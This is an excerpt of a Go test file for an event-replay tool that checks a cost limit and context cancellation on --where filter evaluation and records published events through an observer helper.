func TestReplayWhereCost(t *testing.T) {
	f := newFixture(t, streamstest.Kfake(t), 4)
	c := f.config()
	c.Topics, c.Where = f.topicNames(), nestedAll(8)
	r, err := replay.New(f.serde, f.cat, c)
	if err != nil {
		t.Fatal(err)
	}
	sum, took, err := runWithin(t, context.Background(), r, 10*time.Second)
	if !errors.Is(err, replay.ErrWhereCost) || !strings.Contains(fmt.Sprint(err), "cost limit of 1000000 (--where-cost-limit)") || sum.Written != 0 {
		t.Fatalf("summary %s, error %v; want ErrWhereCost naming 1000000 and --where-cost-limit", sum, err)
	}
	t.Logf("stopped after %s: %v", took.Round(time.Millisecond), err)
	c.Where = nestedAll(3)
	if sum, _ := f.run(t, c); sum.Written != 4 {
		t.Errorf("a thousand iterations: summary %s, want the 4 events", sum)
	}
	c.WhereCostLimit = 0
	if _, err := replay.New(f.serde, f.cat, c); !errors.Is(err, replay.ErrConfig) || !strings.Contains(err.Error(), "--where-cost-limit") {
		t.Errorf("WhereCostLimit 0: %v, want ErrConfig naming --where-cost-limit", err)
	}
}

// TestReplayWhereInterrupted: canceling the context (Ctrl-C) stops a --where evaluation that is
// running, however long it would take: the replay returns promptly, marked interrupted.
func TestReplayWhereInterrupted(t *testing.T) {
	f := newFixture(t, streamstest.Kfake(t), 4)
	c := f.config()
	c.Topics, c.Where, c.WhereCostLimit = f.topicNames(), nestedAll(9), math.MaxUint64
	r, err := replay.New(f.serde, f.cat, c)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	time.AfterFunc(500*time.Millisecond, cancel)
	sum, took, err := runWithin(t, ctx, r, 5*time.Second)
	if err != nil || !sum.Interrupted || sum.Written != 0 {
		t.Fatalf("summary %s, error %v; want interrupted with nothing written", sum, err)
	}
	t.Logf("returned %s after the start, canceled at 500ms", took.Round(time.Millisecond))
}

// observed records what the observers of a writer are told: "<system> <topic> <eventId>".
type observed struct {
	mu  sync.Mutex
	got map[string]bool
}

func (o *observed) ObservePublish(system string, rec *kgo.Record, _ streams.Result, err error) {
	if err == nil {
		o.mu.Lock()
		if o.got == nil {
			o.got = map[string]bool{}
		}
		o.got[system+" "+rec.Topic+" "+streams.Header(rec, streams.HeaderEventID)] = true
		o.mu.Unlock()
	}
}

func (o *observed) saw(w string) bool {
	o.mu.Lock()
	defer o.mu.Unlock()
	return o.got[w]
}
